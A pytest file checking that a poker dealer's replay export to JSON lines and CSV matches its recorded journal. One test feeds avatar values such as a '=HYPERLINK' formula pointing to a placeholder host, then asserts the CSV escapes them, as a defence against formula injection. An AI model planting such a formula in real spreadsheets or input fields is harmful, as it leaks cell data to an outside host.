"""What programs get of a recorded tournament: JSON lines and CSV say the same as the journal."""

import csv
import json
from collections.abc import Callable
from io import StringIO
from pathlib import Path
from typing import Any

import pytest

from dealer.replay.journal_reader import Choice, replay_items
from dealer.replay.show import COLUMNS, CsvExport, json_line
from dealer.settings import Settings
from protocol.games.base import Bet
from protocol.games.stud import StudGame
from tests.dealer.support.golden_replays import write_blockhead, write_stud
from tests.dealer.support.raw_records import read_raw
from tests.dealer.support.rig import SEED
from tests.dealer.support.scribe import Scribe, players

both = pytest.mark.parametrize("write", [write_stud, write_blockhead])


def rows(path: Path, choice: Choice = Choice()) -> list[dict[str, str]]:  # noqa: B008 - frozen
    sheet = StringIO(newline="")
    export = CsvExport(sheet)
    for item in replay_items(path, choice):
        export.write(item)
    sheet.seek(0)
    return list(csv.DictReader(sheet))


def lines(path: Path, choice: Choice = Choice()) -> list[dict[str, Any]]:  # noqa: B008 - frozen
    return [json.loads(json_line(item)) for item in replay_items(path, choice)]


@both
def test_json_and_csv_equal_the_journal(write: Callable[[Path], Path], tmp_path: Path) -> None:
    path = write(tmp_path / "a.journal")
    records = [record for record in read_raw(path) if record["type"] == "hand"]
    hands = [line for line in lines(path) if line["type"] == "hand"]
    table = [row for row in rows(path) if row["action"] not in ("forced", "void")]
    in_lines, in_table = [], []
    for record, hand in zip(records, hands, strict=True):
        assert [seat["before"] for seat in hand["seats"]] == record["stacks"]
        assert [seat["after"] - seat["before"] for seat in hand["seats"]] == record["payoffs"]
        acts = [event for event in hand["events"] if event["event"] == "action" and event["action"] != "forced"]
        in_lines += [(act["seat"], act["chips"], act["microseconds"]) for act in acts]
        in_table += [(seat, max(chips, 0), microseconds) for seat, chips, microseconds in record["actions"]]
    assert in_lines == in_table
    assert [(int(row["seat"]), int(row["chips"]), row["microseconds"]) for row in table] == [
        (seat, chips, "" if microseconds is None else str(microseconds)) for seat, chips, microseconds in in_table
    ]


def test_columns_of_a_csv_row(tmp_path: Path) -> None:
    first, *_ = rows(write_stud(tmp_path / "a.journal"))
    assert first == {
        **{"table": "0", "hand": "1", "game": "1", "level": "1", "street": "1", "seat": "3"},
        **{"id": "p3", "avatar": "德妮絲 :pizza:"},
        **{"action": "bet", "chips": "5", "pot": "8", "owed": "0", "stack": "58", "microseconds": "37129"},
        **{"fault": "", "reason": "", "asked": ""},
    }
    assert tuple(first) == COLUMNS


def test_csv_rows_of_faults_forced_folds_and_voids(tmp_path: Path) -> None:
    table = rows(write_stud(tmp_path / "a.journal"))
    (fault,) = (row for row in table if row["fault"])
    assert (fault["action"], fault["fault"], fault["id"]) == ("given-up", "malformed", "p2")
    assert "\x1b[2J" in fault["reason"]
    (forced,) = (row for row in table if row["action"] == "forced")
    assert (forced["hand"], forced["owed"], forced["microseconds"]) == ("3", "", "")
    (void,) = (row for row in table if row["action"] == "void")
    assert (void["table"], void["hand"], void["seat"]) == ("0", "5", "")


@both
def test_export_of_selected_hands(write: Callable[[Path], Path], tmp_path: Path) -> None:
    path = write(tmp_path / "a.journal")
    choice = Choice(hand=2, table=0, seat="0")
    assert {row["hand"] for row in rows(path, choice)} == {"2"}
    (line,) = lines(path, choice)
    assert (line["hand"], line["viewer"]) == (2, 0)
    assert [seat["hole"] is None for seat in line["seats"]] == [seat["seat"] != 0 for seat in line["seats"]]


@pytest.mark.parametrize("avatar", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@x", 'a,"b";\u2028c'])
def test_avatars_cannot_be_formulas(avatar: str, tmp_path: Path) -> None:
    scribe = Scribe(Settings(SEED, StudGame()), players(avatar, "Brian"))
    scribe.game()
    scribe.hand(lambda player, turn: Bet(turn.owed))
    path = scribe.write(tmp_path / "a.journal")
    (cell,) = {row["avatar"] for row in rows(path)} - {"Brian"}
    assert cell.lstrip("'") == avatar
    assert not cell.startswith(("=", "+", "-", "@"))
    (hand,) = (line for line in lines(path) if line["type"] == "hand")
    assert hand["seats"][0]["avatar"] == avatar
